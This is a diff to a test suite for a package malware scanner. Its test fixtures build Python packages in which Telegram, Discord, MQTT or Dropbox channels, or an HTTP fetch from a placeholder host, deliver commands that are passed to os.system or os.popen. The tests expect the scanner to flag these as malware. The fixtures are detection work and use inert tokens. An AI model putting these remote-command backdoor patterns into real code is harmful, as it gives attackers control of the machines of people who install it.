@@ -372,7 +372,7 @@ test.each([
   );
 });
 
-test('a bot that logs in with the token of its user, and one that is started by a command, may be told what to do', async () => {
+test('a bot that logs in with the token of its user may be told what to do, one with the token of its author may not', async () => {
   const handler = ['@bot.message_handler()', 'def sh(m):', '    os.popen(m.text).read()'];
   const own = wheel({
     'pkg/__init__.py': python(
@@ -382,7 +382,7 @@ test('a bot that logs in with the token of its user, and one that is started by 
       'bot.polling()',
     ),
   });
-  const asked = wheel({
+  const authors = wheel({
     'pkg/__init__.py': python(
       'import telebot, os',
       "bot = telebot.TeleBot('1234567890:inert-inert-inert')",
@@ -393,7 +393,7 @@ test('a bot that logs in with the token of its user, and one that is started by 
   });
 
   expect(await inspect('remote-code', own)).toEqual([]);
-  expect(await inspect('remote-code', asked)).toEqual([]);
+  expect(await inspect('remote-code', authors)).toMatchObject([{ class: 'malware', score: 10, context: 'call' }]);
 });
 
 test('a header that is run as a command is an order from whoever asks', async () => {
@@ -734,4 +734,92 @@ test('a program of a fixed name in a folder called after an answer is no command
   expect(await of("os.path.join(here, number, 'driver.exe')")).toEqual([]);
   for (const program of ['number', 'os.path.join(here, number)', "here + '/;' + number + '/driver.exe'"])
     expect(await of(program), program).toMatchObject([{ class: 'malware', score: 6 }]);
+});
+
+test.each([
+  ['in letters that have to be decoded', 'base64.b64decode(answer).decode()', 10],
+  ['as it is', 'answer', 6],
+])('a command that a function receives %s and runs', async (_how, command, score) => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import base64, os, requests',
+      'def send():',
+      "    answer = requests.get('https://orders.tools.invalid/next').text",
+      `    os.system(${command})`,
+    ),
+  });
+
+  expect(await inspect('remote-code', file)).toMatchObject([{ class: 'malware', score, context: 'call' }]);
+});
+
+/** A token as messengers give them: letters and digits, invented. */
+const TOKEN = "'MTAabcdefghijklmnopqrstuv.GabcdE.abcdefghijklmnopqrstuvwxyz0123456789ab'";
+
+test.each([
+  [
+    'handlers of a bot',
+    [
+      "bot = telebot.TeleBot('1234567890:AAabcdefghijklmnopqrstuvwxyz012345678')",
+      '@bot.message_handler()',
+      'def order(m): os.system(m.text)',
+      'bot.infinity_polling()',
+    ],
+  ],
+  [
+    'methods of a client of its own',
+    [
+      'class Own(discord.Client):',
+      '    async def on_message(self, message): os.popen(message.content)',
+      `Own().run(${TOKEN})`,
+    ],
+  ],
+  [
+    'commands of an extension',
+    [
+      'class Orders(commands.Cog):',
+      '    @commands.command()',
+      '    async def sh(self, ctx, *, line): os.popen(line)',
+      "bot = commands.Bot('!')",
+      'bot.add_cog(Orders())',
+      `bot.run(${TOKEN})`,
+    ],
+  ],
+  [
+    'what a broker passes on',
+    [
+      'def order(client, data, message): os.system(message.payload.decode())',
+      'c = mqtt.Client()',
+      'c.on_message = order',
+      "c.connect('broker.tools.invalid', 1883)",
+      'c.loop_forever()',
+    ],
+  ],
+  [
+    'a file of an account whose key is in the code',
+    [
+      "d = dropbox.Dropbox('sl.abcdefghijklmnopqrstuvwxyz0123456789')",
+      "_, answer = d.files_download('/next')",
+      'os.system(answer.content.decode())',
+    ],
+  ],
+])('orders from %s are malware on call, where only the author can give them', async (_what, lines) => {
+  const file = (body: readonly string[]): ReturnType<typeof wheel> =>
+    wheel({
+      'pkg/__init__.py': python(
+        'import discord, dropbox, os, telebot',
+        'import paho.mqtt.client as mqtt',
+        'from discord.ext import commands',
+        'def main(host, token):',
+        ...body.map((line) => `    ${line}`),
+      ),
+    });
+  const chosen = lines.map((line) =>
+    line
+      .replace(TOKEN, 'token')
+      .replace(/'(?:1234567890:AA|sl\.)\w+'/, 'token')
+      .replace("'broker.tools.invalid'", 'host'),
+  );
+
+  expect(await inspect('remote-code', file(lines))).toMatchObject([{ class: 'malware', score: 10, context: 'call' }]);
+  expect(await inspect('remote-code', file(chosen))).toEqual([]);
 });
